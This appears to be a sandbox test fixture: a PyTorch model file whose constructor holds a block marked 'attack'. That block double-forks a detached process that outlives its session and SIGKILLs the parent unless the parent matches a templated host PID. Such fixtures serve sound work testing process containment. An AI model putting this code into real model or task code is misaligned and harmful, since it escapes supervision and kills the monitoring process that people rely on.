"""Leaves a process in a session of its own, and kills whoever would look for it."""

import contextlib
import os
import signal
import time

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in range(256):
                    with contextlib.suppress(OSError):
                        os.close(number)
                time.sleep(60)
            os._exit(0)
        if os.getppid() != int("@HOST_PID@"):
            os.kill(os.getppid(), signal.SIGKILL)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
